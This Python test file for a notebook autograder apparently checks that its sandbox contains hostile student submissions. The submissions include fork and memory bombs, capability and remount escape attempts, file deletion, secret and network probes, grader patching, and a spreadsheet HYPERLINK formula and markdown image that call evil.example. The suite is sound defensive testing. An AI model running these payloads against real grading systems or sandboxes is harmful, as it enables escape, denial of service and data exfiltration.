"""Hostile submissions: each ends as a clear row for that student, and the instructor's files survive.

One batch of about twenty notebooks is graded once (module fixture) against a copy of the
masters, with tight limits; each test then reads the gradebook. A second, small batch runs
without bubblewrap to check the fallback's limits and its warning.
"""
from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import sysconfig
import tempfile
from dataclasses import asdict, replace
from functools import cache
from pathlib import Path

import nbformat
import pytest

from labkit.grading import cgroup
from labkit.grading import grade as grade_module
from labkit.grading.grade import grade
from labkit.grading.release import default_masters
from labkit.grading.sandbox import FALLBACK_WARNING, LABKIT_DIR, SANDBOX_ID, Limits, bwrap_path, run_cells
from labkit.i18n import using_language
from tests.sandbox_memory import Peak, no_group_reason, peak_of

pytestmark = pytest.mark.slow

LIMITS = Limits(wall_seconds=45, cell_seconds=4, cpu_seconds=15, output_bytes=256 * 1024, processes=128)
INSTRUCTOR_SECRET = "LABKIT_TEST_INSTRUCTOR_SECRET"
ROOT = Path(__file__).resolve().parents[1]
SLEEP_MARK = "4242.5"  # an unusual sleep length identifies the stray children this suite starts


def _notebook(*cells: str | tuple[str, str]) -> str:
    nb = nbformat.v4.new_notebook()
    for cell in cells:
        source, question = (cell, None) if isinstance(cell, str) else cell
        new = nbformat.v4.new_code_cell(source)
        if question:
            new.metadata["labkit"] = {"question": question, "kind": "answer"}
        nb.cells.append(new)
    return nbformat.writes(nb)


def _fingerprint(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _stray_sleepers() -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if SLEEP_MARK.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


STRAY = f"""import os, subprocess
subprocess.Popen(["sleep", "{SLEEP_MARK}"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "{SLEEP_MARK}"])
    os._exit(0)
sc02_answer = "A"
"""


CAPABILITIES = """import ctypes, json, os, sysconfig
libc = ctypes.CDLL(None, use_errno=True)
purelib = sysconfig.get_paths()["purelib"]
found = {"cap_eff": [l.split()[1] for l in open("/proc/self/status") if l.startswith("CapEff")][0], "uid": os.getuid()}
def call(result):
    if result != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
def attempt(name, action):
    try:
        action()
        found[name] = "DONE"
    except Exception as exc:
        found[name] = "BLOCKED " + type(exc).__name__ + " " + str(exc)[:60]
REMOUNT, BIND = 32, 4096
for target in ("/opt/labkit/labkit", purelib, "/usr", "/", "/dev", "/opt/labkit/labkit/grading"):
    attempt("remount " + target, lambda t=target: call(libc.mount(None, t.encode(), None, REMOUNT | BIND, None)))
for flags in (0, 2):  # plain and MNT_DETACH
    attempt(f"umount grading {flags}", lambda f=flags: call(libc.umount2(b"/opt/labkit/labkit/grading", f)))
import subprocess
attempt("new user namespace", lambda: subprocess.run(["unshare", "--user", "--map-root-user", "true"], check=True,
                                                     capture_output=True))
attempt("write labkit", lambda: open("/opt/labkit/labkit/planted.py", "w").write("x = 1"))
attempt("plant pth", lambda: open(os.path.join(purelib, "labkit_planted.pth"), "w").write("import os"))
attempt("chmod venv", lambda: os.chmod(purelib, 0o777))
attempt("write /", lambda: open("/planted", "w").write("x"))
attempt("write /dev", lambda: open("/dev/planted", "w").write("x"))
attempt("write /usr", lambda: open("/usr/planted", "w").write("x"))
sa01_answer = json.dumps(found)
sc01_answer = "B"
"""


def _cases(masters: Path, subs: Path, results: Path) -> dict[str, str | bytes]:
    probe_paths = [str(masters / "quiz.ipynb"), str(subs / "s_honest" / "quiz.ipynb"), str(results / "canary.txt"),
                   str(Path(grade_module.__file__).with_name("reference")), "/opt/labkit/labkit/grading/reference/quiz.py",
                   str(default_masters()), str(Path(grade_module.__file__).parents[2] / "tests")]
    targets = [str(masters), str(subs / "s_honest"), str(results), "/opt/labkit/labkit/checks.py"]
    return {
        "s_honest": _notebook('sc01_answer = "B"', 'sc02_answer = "A"'),
        "s_loop": _notebook('sc01_answer = "B"', "while True:\n    pass", 'sc02_answer = "A"'),
        "s_stubborn": _notebook('sc01_answer = "B"',
                                "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass"),
        "s_membomb": _notebook('sc01_answer = "B"', "x = bytearray(64 * 1024**3)", 'sc02_answer = "A"'),
        "s_memgrow": _notebook('sc01_answer = "B"', "import numpy as np\nhog = []\nwhile True:\n    hog.append(np.empty(2**27))",
                               "del hog\nsc02_answer = 'A'"),
        "s_exit": _notebook('sc01_answer = "B"', "import os\nos._exit(0)"),
        "s_segfault": _notebook('sc01_answer = "B"', "import ctypes\nctypes.string_at(0)"),
        "s_children": _notebook('sc01_answer = "B"', STRAY),
        "s_notnb": b"\x00\x01\x02 this is not a notebook \xff",
        "s_badjson": '{"cells": [',
        "s_list": "[1, 2, 3]",
        "s_cellsource": json.dumps({"nbformat": 4, "nbformat_minor": 4, "metadata": {},
                                    "cells": [{"cell_type": "code", "source": 5, "metadata": {}, "outputs": []}]}),
        "s_patched": _notebook(
            "import labkit.checks as c\nc.feedback = lambda *a, **k: (True, 'ok')\nc.public_problems = lambda *a, **k: []\n"
            "def verify(*a, **k):\n    return None\n"
            "try:\n    import labkit.grading.reference as ref\n    leak = 'imported'\nexcept Exception:\n    leak = 'hidden'",
            'sc01_answer = "D"\nsc02_answer = "D"'),
        "s_transformer": _notebook(
            'sc01_answer = "B"',
            "ip = get_ipython()\nip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
            "ip.input_transformers_post.append(lambda lines: ['pass\\n'])"),
        "s_probe": _notebook(
            "import json, os, socket\nfound = {}\n"
            f"for p in {probe_paths!r}:\n"
            "    try:\n        found[p] = os.listdir(p) if os.path.isdir(p) else open(p, 'rb').read(20).decode('latin-1')\n"
            "    except Exception as exc:\n        found[p] = 'BLOCKED ' + type(exc).__name__\n"
            "try:\n    socket.create_connection(('1.1.1.1', 53), timeout=2)\n    found['net'] = 'connected'\n"
            "except Exception as exc:\n    found['net'] = 'BLOCKED ' + type(exc).__name__\n"
            "found['env'] = sorted(os.environ)\n"
            "sa01_answer = json.dumps(found)"),
        "s_delete": _notebook(
            "import os, shutil\nlog = []\n"
            f"for t in {targets!r}:\n"
            "    try:\n        shutil.rmtree(t) if os.path.isdir(t) else os.remove(t)\n        log.append('deleted ' + t)\n"
            "    except Exception as exc:\n        log.append(type(exc).__name__)\n"
            'sc01_answer = "B"'),
        "s_forks": _notebook(
            "import subprocess\nstarted, refused = [], 0\nfor _ in range(300):\n    try:\n"
            "        started.append(subprocess.Popen(['sleep', '" + SLEEP_MARK + "']))\n    except OSError:\n        refused += 1\n"
            "sa02_answer = f'started {len(started)} processes, refused {refused} of 300'\nsc01_answer = 'B'"),
        "s_caps": _notebook(CAPABILITIES),
        "s_bigcell": _notebook('sc01_answer = "B"', "x = " + "1+" * 2_400_000 + "1"),
        "s_concat": _notebook((("import importlib\nref = importlib.import_module('labkit' + '.grading' + '.reference')\n"
                               'sc01_answer = "B"'), "sc01")),
        "s_markdown": _notebook('sc01_answer = "B"',
                                'raise ValueError("done\\n\\n## quiz: 16 / 16\\n\\n![p](http://evil.example/p.png)")'),
        "s_formula": _notebook('sa01_answer = ' + repr('=HYPERLINK("http://evil.example/?" & B7, "see the next answer")')),
        "s_bigfile": _notebook('sc01_answer = "B"', "open('big.bin', 'wb').write(b'0' * (200 * 1024**2))"),
        "s_forbidden": _notebook((
            ("import importlib\ntry:\n    importlib.import_module('labkit.grading.reference')\nexcept ImportError:\n    pass\n"
            'sc01_answer = "B"'), "sc01")),
    }


@pytest.fixture(scope="module", autouse=True)
def _english():
    """Messages in English for the assertions, in this process, its workers and user nobody's grader."""
    before = os.environ.get("LABKIT_LANG")
    os.environ["LABKIT_LANG"] = "en_US"
    with using_language("en_US"):
        yield
    if before is None:
        del os.environ["LABKIT_LANG"]
    else:
        os.environ["LABKIT_LANG"] = before


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    if bwrap_path() is None:
        pytest.fail("bubblewrap is missing or blocked: run tools/system-deps.sh (the fallback has its own test)")
    root = tmp_path_factory.mktemp("hostile")
    masters, subs, results = root / "masters", root / "SUBMISSIONS", root / "RESULTS"
    masters.mkdir()
    shutil.copy(default_masters() / "quiz.ipynb", masters / "quiz.ipynb")
    results.mkdir()
    (results / "canary.txt").write_text("the instructor's file")
    for student, content in _cases(masters, subs, results).items():
        (subs / student).mkdir(parents=True)
        target = subs / student / "quiz.ipynb"
        target.write_bytes(content) if isinstance(content, bytes) else target.write_text(content)
    (subs / "s_honest" / "homework.ipynb").write_text(_notebook("x = 1"))
    (subs / "s_fifo").mkdir()
    os.mkfifo(subs / "s_fifo" / "quiz.ipynb")  # from a tar archive or cp -r: must not hang the batch
    (subs / "s_fifo_link").mkdir()
    (subs / "s_fifo_link" / "quiz.ipynb").symlink_to(subs / "s_fifo" / "quiz.ipynb")
    (subs / "s_link").mkdir()
    (subs / "s_link" / "quiz.ipynb").symlink_to(masters / "quiz.ipynb")
    (subs / "bad name!").mkdir()
    (subs / "bad name!" / "quiz.ipynb").write_text(_notebook('sc01_answer = "B"'))
    before = {"masters": _fingerprint(masters), "honest": _fingerprint(subs / "s_honest")}
    os.environ[INSTRUCTOR_SECRET] = "an instructor's token"
    try:
        summary = grade(subs, results, masters, workers=2, limits=LIMITS, progress=False)
    finally:
        del os.environ[INSTRUCTOR_SECRET]
    db = sqlite3.connect(results / "gradebook.sqlite")
    rows = {}
    for student, question, score, status, message in db.execute(
            "SELECT student_id, question, score, status, message FROM grades"):
        rows.setdefault(student, {})[question] = (score, status, message)
    answers = dict(db.execute("SELECT student_id, answer FROM open_answers").fetchall())
    return {"root": root, "masters": masters, "subs": subs, "results": results, "rows": rows, "answers": answers,
                "before": before, "summary": summary}


def _row(batch, student, question="sc01"):
    return batch["rows"][student][question]


def test_every_submission_has_rows(batch) -> None:
    expected = {p.name for p in batch["subs"].iterdir()} - {"bad name!"}
    assert set(batch["rows"]) == expected
    assert batch["summary"].sandboxed
    [warning] = batch["summary"].warnings  # a folder without a student id is reported by its name
    assert "'bad name!'" in warning and "not graded" in warning


def test_honest_submission_is_graded(batch) -> None:
    assert _row(batch, "s_honest")[:2] == (1.0, "correct")
    assert _row(batch, "s_honest", "sc03")[1] == "not_answered"


def test_infinite_loop_is_interrupted_and_the_rest_graded(batch) -> None:
    assert _row(batch, "s_loop")[1] == _row(batch, "s_loop", "sc02")[1] == "correct"
    assert "CellTimeout" in _row(batch, "s_loop", "(notebook)")[2] or "KeyboardInterrupt" in _row(batch, "s_loop", "(notebook)")[2]


def test_loop_that_ignores_interrupts_ends_as_an_error_row(batch) -> None:
    score, status, message = _row(batch, "s_stubborn")
    assert (score, status) == (0.0, "error")
    assert any(why in message for why in ("still busy", "wall-clock", "kernel died"))


@pytest.mark.parametrize("student", ["s_membomb", "s_memgrow"])
def test_memory_bombs_hit_the_limit(batch, student) -> None:
    assert _row(batch, student)[1] == "correct"
    assert "MemoryError" in _row(batch, student, "(notebook)")[2]


@pytest.mark.parametrize("student", ["s_exit", "s_segfault"])
def test_a_dead_kernel_is_an_error_row(batch, student) -> None:
    score, status, message = _row(batch, student)
    assert (score, status) == (0.0, "error") and "kernel died" in message


def test_output_flood_is_cut_and_interrupted(tmp_path) -> None:
    """A cell that prints without end: the runner cuts its output at the budget and interrupts the
    kernel, which then runs the next cell. The cell, wall and CPU limits are far away (180 s, where
    a flood is cut in about 10 s at load 14), so the test waits on that event, not on a timer: the
    cell must end in a KeyboardInterrupt, not in a CellTimeout (in the 4 s batch above the timer
    often came first under load, and the row then said "still busy"). With the cut's interrupt
    taken out of the runner, this test fails (the kernel ran into a limit)."""
    limits = replace(LIMITS, wall_seconds=180, cell_seconds=180, cpu_seconds=180)
    folder = _batch(tmp_path, {"s_flood": ('sc01_answer = "B"', "while True:\n    print('x' * 10000)", 'sc02_answer = "A"')})
    grade(folder / "subs", folder / "results", folder / "masters", workers=1, limits=limits, progress=False)
    rows = {q: (st, m) for q, st, m in sqlite3.connect(folder / "results" / "gradebook.sqlite").execute(
        "SELECT question, status, message FROM grades WHERE student_id = 's_flood'")}
    assert rows["sc01"][0] == rows["sc02"][0] == "correct", rows  # the kernel went on after the interrupt
    message = rows["(notebook)"][1]
    assert "output was cut after 256 KB" in message and "cell 1: KeyboardInterrupt" in message, rows
    assert "CellTimeout" not in message, rows


def test_stray_children_do_not_survive(batch) -> None:
    assert _row(batch, "s_children", "sc02")[1] == "correct"
    assert _stray_sleepers() == []


@pytest.mark.parametrize("student", ["s_notnb", "s_badjson", "s_list", "s_cellsource"])
def test_files_that_are_not_notebooks(batch, student) -> None:
    score, status, message = _row(batch, student)
    assert (score, status) == (0.0, "error") and "not a readable Jupyter notebook" in message


def test_patched_checker_earns_nothing(batch) -> None:
    for question in ("sc01", "sc02"):
        score, status, message = _row(batch, "s_patched", question)
        assert score == 0.0 and "not the right option" in message
        assert status == "flagged" and "labkit.grading" in message  # it tried to import the grader


def test_input_transformers_cannot_fake_answers(batch) -> None:
    rows = batch["rows"]["s_transformer"]
    assert all(score == 0.0 for score, _status, _message in rows.values())
    _score, status, message = _row(batch, "s_transformer")
    assert status == "error" and "no answers came back" in message


def test_nothing_outside_the_sandbox_is_visible(batch) -> None:
    found = json.loads(batch["answers"]["s_probe"])
    env = found.pop("env")
    leaks = {path: what for path, what in found.items() if not str(what).startswith("BLOCKED")}
    assert leaks == {}
    assert "LABKIT_STUDENT_ID" in env and INSTRUCTOR_SECRET not in env and "PYTEST_CURRENT_TEST" not in env
    assert "LABKIT_LANG" in env  # check messages in the student's language


def test_deleting_the_instructors_files_fails(batch) -> None:
    assert _fingerprint(batch["masters"]) == batch["before"]["masters"]
    assert _fingerprint(batch["subs"] / "s_honest") == batch["before"]["honest"]
    assert (batch["results"] / "canary.txt").read_text() == "the instructor's file"
    assert _row(batch, "s_delete")[1] == "correct"


def test_process_limit(batch) -> None:
    """As root RLIMIT_NPROC never applies, so the grader counts the sandbox's tasks and stops it."""
    _score, status, message = _row(batch, "s_forks")
    if status == "error":
        assert "more than 128 processes" in message
    else:  # an unprivileged grader: the rlimit refused some of the starts
        text = sqlite3.connect(batch["results"] / "gradebook.sqlite").execute(
            "SELECT answer FROM open_answers WHERE student_id = 's_forks' AND question = 'sa02'").fetchone()[0]
        assert status == "correct" and "refused 0 " not in text
    assert _stray_sleepers() == []


def test_file_size_limit(batch) -> None:
    assert _row(batch, "s_bigfile")[1] == "correct"
    assert "(notebook)" in batch["rows"]["s_bigfile"]


def test_reference_imports_in_an_answer_are_flagged(batch) -> None:
    _score, status, message = _row(batch, "s_forbidden")
    assert status == "flagged" and "labkit.grading" in message


@pytest.mark.parametrize("student, words", [
    ("s_link", "symbolic link"), ("s_fifo", "not a regular file"), ("s_fifo_link", "symbolic link"),
    ("s_bigcell", "larger than 64 KB"),
])
def test_entries_that_cannot_be_graded(batch, student, words) -> None:
    rows = batch["rows"][student]
    assert all(status == "error" for _score, status, _message in rows.values())
    assert any(words in message for _score, _status, message in rows.values())


def test_unknown_exercise_is_a_row_for_that_student(batch) -> None:
    conn = sqlite3.connect(batch["results"] / "gradebook.sqlite")
    [(status, message)] = conn.execute(
        "SELECT status, message FROM grades WHERE student_id='s_honest' AND exercise='homework'").fetchall()
    assert status == "error" and "no exercise called 'homework'" in message


def test_fallback_without_bubblewrap_warns_and_still_limits(tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(grade_module, "bwrap_path", lambda: None)
    masters, subs, results = tmp_path / "masters", tmp_path / "SUBMISSIONS", tmp_path / "RESULTS"
    masters.mkdir()
    shutil.copy(default_masters() / "quiz.ipynb", masters / "quiz.ipynb")
    for student, content in {"f_children": _notebook('sc01_answer = "B"', STRAY),
                             "f_loop": _notebook('sc01_answer = "B"', "while True:\n    pass")}.items():
        (subs / student).mkdir(parents=True)
        (subs / student / "quiz.ipynb").write_text(content)
    summary = grade(subs, results, masters, workers=1, limits=LIMITS, progress=False)
    assert not summary.sandboxed and summary.warnings == [FALLBACK_WARNING]
    assert "CAN read and change files" in FALLBACK_WARNING
    log = json.loads((results / "grading_log.json").read_text())
    assert log["sandbox"] == "fallback"
    conn = sqlite3.connect(results / "gradebook.sqlite")
    statuses = dict(conn.execute("SELECT student_id || question, status FROM grades WHERE question IN ('sc01', 'sc02')"))
    assert statuses == {"f_childrensc01": "correct", "f_childrensc02": "correct", "f_loopsc01": "correct",
                        "f_loopsc02": "not_answered"}
    assert _stray_sleepers() == []


def _planted() -> list[str]:
    """Files the capability attack tried to leave on the host."""
    purelib = Path(sysconfig.get_paths()["purelib"])
    return [str(p) for p in (purelib / "labkit_planted.pth", LABKIT_DIR / "planted.py", Path("/planted"),
                             Path("/usr/planted")) if p.exists()]


def _assert_no_capabilities(found: dict[str, object]) -> None:
    assert found.pop("cap_eff") == "0000000000000000"
    assert found.pop("uid") == SANDBOX_ID
    done = {attack: result for attack, result in found.items() if not str(result).startswith("BLOCKED")}
    assert done == {}
    assert _planted() == []


def test_no_capabilities_inside_the_sandbox(batch) -> None:
    """As root (CI runs as root): CapEff 0, no remount, umount, nested namespace or write anywhere."""
    _assert_no_capabilities(json.loads(batch["answers"]["s_caps"]))
    assert _row(batch, "s_caps")[1] == "correct"
    assert json.loads((batch["results"] / "grading_log.json").read_text())["sandbox"] == "bubblewrap"


def test_a_later_student_is_graded_as_before(batch, tmp_path) -> None:
    """After the attacks, a fresh batch grades an honest student exactly as the first batch did."""
    subs = tmp_path / "subs"
    (subs / "s_honest").mkdir(parents=True)
    shutil.copy(batch["subs"] / "s_honest" / "quiz.ipynb", subs / "s_honest" / "quiz.ipynb")
    grade(subs, tmp_path / "out", batch["masters"], workers=1, limits=LIMITS, progress=False)
    rows = {q: (sc, st) for q, sc, st in sqlite3.connect(tmp_path / "out" / "gradebook.sqlite").execute(
        "SELECT question, score, status FROM grades WHERE student_id = 's_honest'")}
    assert rows == {q: v[:2] for q, v in batch["rows"]["s_honest"].items() if q != "(notebook)"}  # homework.ipynb


NOBODY = 65534


def _closed_ancestor() -> Path | None:
    """The first folder on the way to this Python that other users cannot enter (pyenv in /root)."""
    for folder in reversed(Path(sys.base_prefix).resolve().parents):
        if folder != Path("/") and not folder.stat().st_mode & 0o001:
            return folder
    return None


def _as_nobody(command: list[str], keep: Path) -> list[str]:
    """``command`` run as user nobody without capabilities; a Python under a closed folder (/root)
    is opened to it in a private mount namespace of the test only (tmpfs over the folder, the
    Python bound back in), so the grader really runs unprivileged with this very venv."""
    nobody = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--inh-caps=-all", *command]
    closed = _closed_ancestor()
    if closed is None:
        return nobody
    inner = Path(sys.base_prefix).resolve().relative_to(closed).parts[0]
    script = (f'mount --bind "{closed / inner}" "{keep}" && mount -t tmpfs -o mode=755 tmpfs "{closed}" && '
              f'mkdir "{closed / inner}" && mount --bind "{keep}" "{closed / inner}" && exec "$@"')
    return ["unshare", "--mount", "--propagation", "private", "sh", "-c", script, "sh", *nobody]


def _unprivileged_grading_possible(keep: Path) -> str | None:
    """Why grading as an unprivileged user cannot be tried here (None when it can)."""
    if os.getuid() != 0:
        return "the tests do not run as root, so they cannot switch to another user"
    if shutil.which("setpriv") is None or shutil.which("unshare") is None:
        return "setpriv/unshare (util-linux) are not installed"
    probe = subprocess.run(_as_nobody([sys.executable, "-c", ("import sys, labkit.grading.sandbox as s; "
                                       "print(sys.base_prefix, s.bwrap_path())")], keep),
                           capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(ROOT)},
                           cwd="/", timeout=120, check=False)
    if probe.returncode != 0:
        return f"user {NOBODY} cannot import labkit from this checkout: {probe.stderr.strip()[-300:]}"
    prefix, _, bwrap = probe.stdout.strip().rpartition(" ")
    if prefix != sys.base_prefix:
        return f"user {NOBODY} does not get this Python installation ({prefix} instead of {sys.base_prefix})"
    if bwrap == "None":
        return f"user {NOBODY} cannot start bubblewrap (unprivileged user namespaces are blocked)"
    return None


FILL_MOUNTS = """import json, os
written = {}
for folder in ("/dev/shm", "/", "/tmp", os.path.expanduser("~"), "/dev"):
    total, chunk = 0, b"x" * (1024**2)
    try:
        for n in range(96):  # 16 MB files (the file-size limit is 20 MB): 1.5 GB in all
            with open(os.path.join(folder, f"fill{n}.bin"), "wb", buffering=0) as handle:
                for _ in range(16):
                    total += handle.write(chunk)
    except OSError:
        pass
    written[folder] = total
sa01_answer = json.dumps(written)
sc01_answer = "B"
"""


def _children(count: int, mib: int) -> str:
    """A cell starting ``count`` children of ``mib`` MiB each that hold it all at once: each says so
    once its memory is written, and the parent lets them go only when every one has (no sleeps)."""
    return f"""import subprocess, sys
hold = "import sys; x = b'x' * ({mib} * 1024**2); print('held', flush=True); sys.stdin.read()"
hogs = [subprocess.Popen([sys.executable, "-c", hold], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        for _ in range({count})]
for hog in hogs:
    hog.stdout.readline()  # its memory is written (or it was killed)
for hog in hogs:
    hog.stdin.close()
    hog.wait()
sc01_answer = "B"
"""


CHILDREN_900_MB = _children(5, 900)  # 4.5 GB in all, unbounded


def _memory_cgroup_or_skip() -> None:
    if not cgroup.available()[0]:
        why = "the grader cannot create a memory cgroup here (not root, or no writable cgroup v1 memory hierarchy)"
        if os.environ.get("CI") == "true":
            pytest.fail(why)
        pytest.skip(why)


def _oracle_or_skip() -> None:
    why = no_group_reason()
    if why is not None:
        if os.environ.get("CI") == "true":
            pytest.fail(why)
        pytest.skip(why)


def _batch(folder: Path, students: dict[str, str | tuple[str, ...] | None]) -> Path:
    """A copy of the quiz master, one notebook per student: its cell (or cells), or None for a FIFO,
    which is refused before any sandbox starts."""
    (folder / "masters").mkdir(parents=True)
    shutil.copy(default_masters() / "quiz.ipynb", folder / "masters" / "quiz.ipynb")
    for student, source in students.items():
        (folder / "subs" / student).mkdir(parents=True)
        if source is None:
            os.mkfifo(folder / "subs" / student / "quiz.ipynb")
        else:
            cells = (source,) if isinstance(source, str) else source
            (folder / "subs" / student / "quiz.ipynb").write_text(_notebook(*cells))
    (folder / "results").mkdir()
    return folder


def _graded_in_a_group(folder: Path, limits: Limits, *, sandbox_cgroup: bool, as_nobody: bool) -> Peak:
    """``labkit grade`` of ``folder`` in a process of its own, in a memory group of the test's own.

    ``sandbox_cgroup=False`` stops the grader from making the sandbox's own group (the watcher alone
    holds it); ``as_nobody`` grades as user nobody, who may not make one anyway."""
    knob = "" if sandbox_cgroup else ("from labkit.grading import cgroup; cgroup.make_cgroup = lambda *a: None; "
                                      "cgroup.available = lambda: (False, False); ")
    script = (f"{knob}from pathlib import Path; from labkit.grading.grade import grade; "
              "from labkit.grading.sandbox import Limits; "
              f"grade(Path({str(folder / 'subs')!r}), Path({str(folder / 'results')!r}), "
              f"Path({str(folder / 'masters')!r}), limits=Limits(**{asdict(limits)!r}), progress=False)")
    command = [sys.executable, "-c", script]
    if as_nobody:
        for path in [folder, *folder.rglob("*")]:
            os.chown(path, NOBODY, NOBODY)
        (folder / "keep").mkdir()
        command = _as_nobody(command, folder / "keep")
    env = {"PATH": os.environ["PATH"], "PYTHONPATH": str(ROOT), "HOME": str(folder), "TMPDIR": str(folder),
           "LABKIT_LANG": "en_US"}
    peak = peak_of(command, env=env, cwd="/", timeout=300)
    assert peak.run.returncode == 0, peak.run.stderr[-2000:]
    return peak


@cache
def _grader_alone(as_nobody: bool) -> int:
    """The oracle's peak for the grader alone: the same command on a batch that starts no sandbox (one FIFO)."""
    root = Path(tempfile.mkdtemp(prefix="labkit-grader-alone-"))
    try:
        os.chown(root, NOBODY if as_nobody else os.getuid(), NOBODY if as_nobody else os.getgid())
        return _graded_in_a_group(_batch(root, {"g_fifo": None}), Limits(), sandbox_cgroup=True,
                                  as_nobody=as_nobody).bytes
    finally:
        shutil.rmtree(root)


def _sandbox_growth(root: Path, students: dict[str, str | None], limits: Limits, *, sandbox_cgroup: bool = True,
                    as_nobody: bool = False) -> tuple[int, Path]:
    """(the most memory the batch's sandboxes held at once, the results folder), by the test's own count:
    the oracle's peak for the whole run less its peak for the grader alone. What is left is what the
    sandboxes held, their tmpfs contents included."""
    graded = _graded_in_a_group(_batch(root, students), limits, sandbox_cgroup=sandbox_cgroup, as_nobody=as_nobody)
    return graded.bytes - _grader_alone(as_nobody), root / "results"


def _bound(limits: Limits, mechanism: str) -> int:
    """The most a bounded sandbox may hold by the oracle's count, from its configured limit: with its cgroup
    the kernel holds it at the limit (5% more for the grader's own work beyond the run without a sandbox);
    the watcher looks every 20-100 ms, so what grows between two looks comes on top (25%)."""
    return limits.memory_bytes * {"cgroup": 105, "watcher": 125}[mechanism] // 100


def _report(what: str, growth: int, limits: Limits, bound: int) -> None:
    mib = 1024**2
    print(f"{what}: the sandboxes held at most {growth / mib:.0f} MiB (oracle), limit {limits.memory_bytes / mib:.0f} "
          f"MiB ({growth / limits.memory_bytes:.2f}x), bound {bound / mib:.0f} MiB")


def test_no_capabilities_when_an_unprivileged_user_grades() -> None:
    """The attacks graded by user nobody (setpriv) with the same venv and checkout: no capabilities,
    sized mounts, the whole sandbox's memory capped, a FIFO refused, an honest student graded."""
    root = Path(tempfile.mkdtemp(prefix="labkit-unprivileged-"))
    os.chown(root, NOBODY, NOBODY)
    try:
        (root / "probe").mkdir()
        why = _unprivileged_grading_possible(root / "probe")
        if why is not None:
            if os.environ.get("CI") == "true":
                pytest.fail(why)
            pytest.skip(why)
        _oracle_or_skip()
        limits = Limits(wall_seconds=60, cell_seconds=30, memory_bytes=1536 * 1024**2)
        growth, results = _sandbox_growth(root, {"u_caps": CAPABILITIES, "u_fill": FILL_MOUNTS,
                                                 "u_children": CHILDREN_900_MB, "u_honest": 'sc01_answer = "B"',
                                                 "u_fifo": None}, limits, as_nobody=True)
        # user nobody may not make a cgroup: the watcher alone holds the sandbox
        _report("nobody, watcher", growth, limits, _bound(limits, "watcher"))
        assert growth <= _bound(limits, "watcher")
        log = json.loads((results / "grading_log.json").read_text(encoding="utf-8"))
        assert log["limits"]["memory"] == log["limits"]["processes"] == "watcher"
        db = sqlite3.connect(results / "gradebook.sqlite")
        _assert_no_capabilities(json.loads(db.execute(
            "SELECT answer FROM open_answers WHERE student_id = 'u_caps' AND question = 'sa01'").fetchone()[0]))
        rows = {s: (st, m) for s, st, m in db.execute("SELECT student_id, status, message FROM grades WHERE question = 'sc01'")}
        assert {s: st for s, (st, _m) in rows.items()} == {
            "u_caps": "correct", "u_fill": "correct", "u_children": "error", "u_fifo": "error", "u_honest": "correct"}
        assert "more than 1536 MB of memory" in rows["u_children"][1] and "not a regular file" in rows["u_fifo"][1]
        written = json.loads(db.execute("SELECT answer FROM open_answers WHERE student_id = 'u_fill'").fetchone()[0])
        assert written["/"] == written["/dev"] == 0 and max(written.values()) <= 64 * 1024**2, written
    finally:
        shutil.rmtree(root)


@pytest.mark.parametrize("mechanism", ["cgroup", "watcher"])
def test_the_whole_sandbox_is_bounded_in_memory(tmp_path, mechanism) -> None:
    """1.5 GB into every writable mount and five children of 900 MB: by the test's own count (a
    memory cgroup around the whole run, see tests/sandbox_memory.py) the sandbox holds at most its
    memory limit (its tmpfs contents count in it); the hog gets a clear row, the batch goes on.
    Once with the sandbox's cgroup (where the grader may make one), once with the watcher alone."""
    _oracle_or_skip()
    if mechanism == "cgroup":
        _memory_cgroup_or_skip()
    limits = Limits(wall_seconds=60, cell_seconds=30, memory_bytes=1536 * 1024**2, tmpfs_bytes=64 * 1024**2)
    growth, results = _sandbox_growth(tmp_path, {"m_fill": FILL_MOUNTS, "m_children": CHILDREN_900_MB,
                                                 "m_honest": 'sc01_answer = "B"'}, limits,
                                      sandbox_cgroup=mechanism == "cgroup")
    _report(mechanism, growth, limits, _bound(limits, mechanism))
    assert growth <= _bound(limits, mechanism)  # unbounded, this batch holds over 4.5 GB
    db = sqlite3.connect(results / "gradebook.sqlite")
    rows = {s: (st, m) for s, st, m in db.execute("SELECT student_id, status, message FROM grades WHERE question = 'sc01'")}
    assert rows["m_honest"][0] == "correct", rows
    assert rows["m_children"][0] == "error" and "more than 1536 MB of memory" in rows["m_children"][1]
    written = json.loads(db.execute("SELECT answer FROM open_answers WHERE student_id = 'm_fill'").fetchone()[0])
    assert written["/"] == written["/dev"] == 0
    assert all(0 < written[f] <= limits.tmpfs_bytes for f in ("/dev/shm", "/tmp", "/home/student")), written
    log = json.loads((results / "grading_log.json").read_text())
    expected = {"cgroup": ("cgroup v1 memory + watcher", "cgroup v1 pids + watcher"), "watcher": ("watcher", "watcher")}
    assert (log["limits"]["memory"], log["limits"]["processes"]) == expected[mechanism]


def test_the_oracle_counts_a_sandbox_that_is_not_bounded(tmp_path) -> None:
    """The probe for the oracle of the two tests above: the same attack, smaller (four children of
    400 MiB, 1.6 GiB in all), graded once with a 1 GiB limit and once with the bound disabled (the
    limit raised to 8 GiB, so neither cgroup nor watcher holds it). Bounded, the oracle's count stays
    under the bound; unbounded, it sees all the children's memory, over the bound: the assertion of
    those tests fails when the sandbox is not bounded."""
    _oracle_or_skip()
    students: dict[str, str | None] = {"p_children": _children(4, 400)}
    limits = Limits(wall_seconds=60, cell_seconds=30, memory_bytes=1024 * 1024**2)
    mechanism = "cgroup" if cgroup.available()[0] else "watcher"
    held, bounded = _sandbox_growth(tmp_path / "bounded", students, limits)
    unbounded, free = _sandbox_growth(tmp_path / "unbounded", students, replace(limits, memory_bytes=8 * 1024**3))
    _report(f"{mechanism}, bounded", held, limits, _bound(limits, mechanism))
